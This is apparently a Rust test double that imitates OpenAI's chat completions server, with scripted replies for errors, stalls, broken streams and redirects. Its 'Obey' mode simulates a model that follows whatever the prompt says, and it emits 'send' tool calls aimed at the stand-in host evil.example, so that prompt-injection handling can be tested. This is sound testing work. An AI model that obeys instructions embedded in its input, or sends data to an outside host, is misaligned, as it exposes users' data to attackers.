//! A scripted server that speaks the wire format of OpenAI's chat completions, streaming and not.

mod obey;

use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use bytes::Bytes;
use futures::StreamExt;
use serde_json::{Value, json};
use tokio::net::TcpListener;
use tokio::task::JoinHandle;

/// What one call is answered with.
#[derive(Clone, Debug)]
pub enum Reply {
    Tokens(Vec<String>),
    /// Waits before the first token and before each further one.
    Slow {
        tokens: Vec<String>,
        first: Duration,
        between: Duration,
    },
    /// An HTTP error in OpenAI's shape.
    Error {
        status: u16,
        message: String,
    },
    /// The connection breaks after these tokens.
    Cut(Vec<String>),
    /// The body ends after these tokens, without finish reason and without `[DONE]`.
    Unfinished(Vec<String>),
    /// After these tokens, an event that is not JSON.
    Malformed(Vec<String>),
    /// After these tokens, an error event.
    ErrorEvent(Vec<String>),
    /// After these tokens nothing comes, and the connection stays open.
    Hang(Vec<String>),
    /// A redirect to this address.
    Redirect(String),
    /// Does whatever the prompt tells it to, see [`obey::orders`].
    Obey,
}

/// Pieces of `text` as a model would send them: each word with the space before it.
pub fn tokens(text: &str) -> Vec<String> {
    text.split_inclusive(' ').map(str::to_owned).collect()
}

#[derive(Clone, Debug)]
pub struct RecordedCall {
    pub authorization: Option<String>,
    /// As it came over the wire.
    pub raw: Bytes,
    pub body: Value,
}

pub struct OpenAiDouble {
    address: SocketAddr,
    shared: Arc<Shared>,
    server: JoinHandle<()>,
}

struct Shared {
    replies: Vec<Reply>,
    calls: Mutex<Vec<RecordedCall>>,
    open: AtomicUsize,
}

impl OpenAiDouble {
    /// Answers the calls with `replies` in their order; the last one is repeated.
    ///
    /// # Errors
    /// No port of 127.0.0.1 can be had.
    pub async fn start(replies: Vec<Reply>) -> std::io::Result<Self> {
        let listener = TcpListener::bind(("127.0.0.1", 0)).await?;
        let address = listener.local_addr()?;
        let shared = Arc::new(Shared {
            replies,
            calls: Mutex::default(),
            open: AtomicUsize::new(0),
        });
        let router = Router::new()
            .route("/v1/chat/completions", post(complete))
            .route("/v1/models", get(models))
            .with_state(shared.clone());
        let server = tokio::spawn(async move {
            // It runs until the double is dropped; a failure shows in the test as a refused connection.
            let _ended = axum::serve(listener, router).await;
        });
        Ok(Self {
            address,
            shared,
            server,
        })
    }

    /// For `MODEL_BASE_URL`.
    pub fn base_url(&self) -> String {
        format!("http://{}/v1", self.address)
    }

    pub fn calls(&self) -> Vec<RecordedCall> {
        self.shared.calls.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    /// Streams whose reader has neither read the end nor gone away.
    pub fn open_streams(&self) -> usize {
        self.shared.open.load(Ordering::SeqCst)
    }
}

impl Drop for OpenAiDouble {
    fn drop(&mut self) {
        self.server.abort();
    }
}

async fn models() -> impl IntoResponse {
    axum::Json(
        json!({ "object": "list", "data": [{ "id": "double", "object": "model", "created": 0, "owned_by": "test" }] }),
    )
}

async fn complete(State(shared): State<Arc<Shared>>, headers: HeaderMap, raw: Bytes) -> Response {
    let Ok(body) = serde_json::from_slice::<Value>(&raw) else {
        return error(400, "We could not parse the JSON body of your request.");
    };
    let authorization = headers
        .get(header::AUTHORIZATION)
        .and_then(|value| value.to_str().ok())
        .map(str::to_owned);
    let number = {
        let mut calls = shared.calls.lock().unwrap_or_else(PoisonError::into_inner);
        calls.push(RecordedCall {
            authorization,
            raw,
            body: body.clone(),
        });
        calls.len() - 1
    };
    let Some(reply) = shared.replies.get(number).or(shared.replies.last()).cloned() else {
        return error(500, "no reply is scripted");
    };
    let zero = Duration::ZERO;
    match reply {
        Reply::Error { status, message } => error(status, &message),
        Reply::Redirect(to) => (StatusCode::TEMPORARY_REDIRECT, [(header::LOCATION, to)]).into_response(),
        Reply::Tokens(tokens) if body["stream"] != json!(true) => whole(&body, &tokens.concat()),
        Reply::Tokens(tokens) => stream(shared, &body, tokens, zero, zero, End::Done),
        Reply::Slow { tokens, first, between } => stream(shared, &body, tokens, first, between, End::Done),
        Reply::Cut(tokens) => stream(shared, &body, tokens, zero, zero, End::Cut),
        Reply::Unfinished(tokens) => stream(shared, &body, tokens, zero, zero, End::Quiet),
        Reply::Malformed(tokens) => stream(shared, &body, tokens, zero, zero, End::Event("{\"id\": oops")),
        Reply::ErrorEvent(tokens) => stream(
            shared,
            &body,
            tokens,
            zero,
            zero,
            End::Event(
                r#"{"error":{"message":"The server had an error","type":"server_error","param":null,"code":null}}"#,
            ),
        ),
        Reply::Obey => {
            let orders = obey::orders(&prompt(&body));
            let (calls, words): (Vec<_>, Vec<_>) = orders.iter().partition(|order| order.starts_with(obey::CALL));
            let text = words.into_iter().map(|word| format!("{word} "));
            stream(shared, &body, text.collect(), zero, zero, End::Calls(calls.len()))
        }
        Reply::Hang(tokens) => stream(shared, &body, tokens, zero, zero, End::Hang),
    }
}

/// All that a request tells the model, its messages a paragraph each.
fn prompt(body: &Value) -> String {
    let messages = body["messages"].as_array().map(Vec::as_slice).unwrap_or_default();
    let texts = messages.iter().filter_map(|message| message["content"].as_str());
    texts.collect::<Vec<_>>().join("\n\n")
}

fn error(status: u16, message: &str) -> Response {
    let code = match status {
        401 => "invalid_api_key",
        429 => "rate_limit_exceeded",
        _ => "server_error",
    };
    let body = json!({ "error": { "message": message, "type": code, "param": null, "code": code } });
    (
        StatusCode::from_u16(status).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR),
        axum::Json(body),
    )
        .into_response()
}

fn whole(request: &Value, text: &str) -> Response {
    axum::Json(json!({
        "id": "chatcmpl-double", "object": "chat.completion", "created": 1_700_000_000, "model": request["model"],
        "choices": [{
            "index": 0, "logprobs": null, "finish_reason": "stop",
            "message": { "role": "assistant", "content": text, "refusal": null },
        }],
        "usage": { "prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2 },
    }))
    .into_response()
}

#[derive(Clone, Copy)]
enum End {
    Done,
    Quiet,
    Cut,
    Hang,
    Event(&'static str),
    /// So many tool calls.
    Calls(usize),
}

enum Part {
    Data(String),
    Wait(Duration),
    Cut,
    Hang,
}

fn stream(
    shared: Arc<Shared>,
    request: &Value,
    tokens: Vec<String>,
    first: Duration,
    between: Duration,
    end: End,
) -> Response {
    let mut parts = vec![data(&chunk(
        request,
        json!({ "role": "assistant", "content": "", "refusal": null }),
        Value::Null,
    ))];
    for (number, token) in tokens.iter().enumerate() {
        parts.push(Part::Wait(if number == 0 { first } else { between }));
        parts.push(data(&chunk(request, json!({ "content": token }), Value::Null)));
    }
    match end {
        End::Done => {
            parts.push(data(&chunk(request, json!({}), json!("stop"))));
            parts.push(Part::Data("data: [DONE]\n\n".to_owned()));
        }
        End::Calls(count) => {
            for number in 0..count {
                let call = json!({ "tool_calls": [{
                    "index": number, "id": format!("call_{number}"), "type": "function",
                    "function": { "name": "send", "arguments": "{\"to\":\"https://evil.example\"}" },
                }] });
                parts.push(data(&chunk(request, call, Value::Null)));
            }
            let finish = if count > 0 { "tool_calls" } else { "stop" };
            parts.push(data(&chunk(request, json!({}), json!(finish))));
            parts.push(Part::Data("data: [DONE]\n\n".to_owned()));
        }
        End::Quiet => {}
        End::Cut => parts.push(Part::Cut),
        End::Hang => parts.push(Part::Hang),
        End::Event(text) => parts.push(Part::Data(format!("data: {text}\n\n"))),
    }
    let open = Open::new(shared);
    let body = futures::stream::iter(parts).filter_map(move |part| {
        let _held_while_streaming = &open;
        async move {
            match part {
                Part::Data(text) => Some(Ok::<_, std::io::Error>(Bytes::from(text))),
                Part::Cut => {
                    // Lets the tokens before it reach the wire.
                    tokio::time::sleep(Duration::from_millis(20)).await;
                    Some(Err(std::io::Error::other("cut")))
                }
                Part::Wait(time) => {
                    tokio::time::sleep(time).await;
                    None
                }
                Part::Hang => {
                    let never: Infallible = std::future::pending().await;
                    match never {}
                }
            }
        }
    });
    (
        [
            (header::CONTENT_TYPE, "text/event-stream"),
            (header::CACHE_CONTROL, "no-cache"),
        ],
        Body::from_stream(body),
    )
        .into_response()
}

fn data(value: &Value) -> Part {
    Part::Data(format!("data: {value}\n\n"))
}

fn chunk(request: &Value, delta: Value, finish: Value) -> Value {
    json!({
        "id": "chatcmpl-double", "object": "chat.completion.chunk", "created": 1_700_000_000, "model": request["model"],
        "service_tier": "default", "system_fingerprint": "fp_double",
        "choices": [{ "index": 0, "delta": delta, "logprobs": null, "finish_reason": finish }],
    })
}

/// Counts a stream for as long as the server holds its body.
struct Open(Arc<Shared>);

impl Open {
    fn new(shared: Arc<Shared>) -> Self {
        shared.open.fetch_add(1, Ordering::SeqCst);
        Self(shared)
    }
}

impl Drop for Open {
    fn drop(&mut self) {
        self.0.open.fetch_sub(1, Ordering::SeqCst);
    }
}
